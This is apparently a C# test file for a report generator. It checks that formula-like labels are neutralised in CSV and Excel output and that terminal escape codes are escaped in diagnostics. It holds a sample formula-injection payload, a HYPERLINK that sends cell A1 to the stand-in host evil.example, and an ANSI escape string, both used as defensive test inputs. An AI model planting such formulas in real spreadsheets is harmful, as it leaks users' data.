using ClosedXML.Excel;
using ReportGen.Cli;
using ReportGen.Tests.TestSupport;

namespace ReportGen.Tests.Publishing;

/// <summary>
/// Text from workbooks and content that would act on the program showing it: a label that a spreadsheet would run as
/// a formula, and a control character that would drive the terminal printing a diagnostic.
/// </summary>
public sealed class InjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    [Fact]
    public async Task A_label_that_would_start_a_formula_reads_as_text_in_the_csv_and_the_workbook()
    {
        using var data = new DataEdition("""
            sources:
              - id: staff
                file: data/staff.xlsx
                sheet: Staff
                fields: { team: Team }
            """, "tables:\n  - { id: teams, title: Staff by team, source: staff, rows: team }\n");
        string[] teams = [Hyperlink, "+1 Squad", "-Response", "@Command", "Neighbourhood"];
        data.Workbook("staff.xlsx", "Staff", [["Team"], .. teams.SelectMany(t => Enumerable.Repeat(new object?[] { t }, 10))]);

        await using var builder = new ReportBuilder(new BuildOptions(Path.Combine(data.Root, "out"), OutputFormats.Html, RepoPaths.Templates));
        var result = await builder.BuildAsync(data.Folder);
        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));

        var csv = PublishedTable.FromCsv("teams", File.ReadAllText(Path.Combine(result.OutputFolder!, "data", "teams.csv")));
        Assert.Contains(csv.Rows, r => r.Label == "'" + Hyperlink);
        Assert.Contains(csv.Rows, r => r.Label == "'+1 Squad");
        Assert.Contains(csv.Rows, r => r.Label == "'-Response");
        Assert.Contains(csv.Rows, r => r.Label == "'@Command");
        Assert.Contains(csv.Rows, r => r.Label == "Neighbourhood");
        Assert.DoesNotContain(csv.Rows, r => r.Label.Length > 0 && "=+-@".Contains(r.Label[0], StringComparison.Ordinal));
        Assert.Equal("10", csv.Rows.Single(r => r.Label == "'-Response").Cells[0]);

        using var workbook = new XLWorkbook(Path.Combine(result.OutputFolder!, "data", "all-tables.xlsx"));
        var cells = workbook.Worksheets.SelectMany(w => w.CellsUsed()).ToList();
        Assert.DoesNotContain(cells, c => c.HasFormula);
        Assert.Contains(cells, c => c.GetString() == Hyperlink && c.DataType == XLDataType.Text);
    }

    [Fact]
    public async Task A_control_character_in_content_is_shown_in_a_diagnostic_not_sent_to_the_terminal()
    {
        using var edition = new TempEdition("organisation:\n  name: A\nedition:\n  title: T\n  \"ti\u001B[2Jtle\": x\n", SampleEditions.ObjectivesYaml);
        var stdout = new StringWriter();
        var stderr = new StringWriter();

        var exit = await CommandLine.RunAsync(["check", edition.Folder], stdout, stderr);

        Assert.Equal(ExitCodes.ContentErrors, exit);
        var printed = stdout.ToString() + stderr.ToString();
        Assert.Contains("RG0103", printed);
        Assert.DoesNotContain('\u001B', printed);
        Assert.Contains("\\u001B[2J", printed);
    }
}
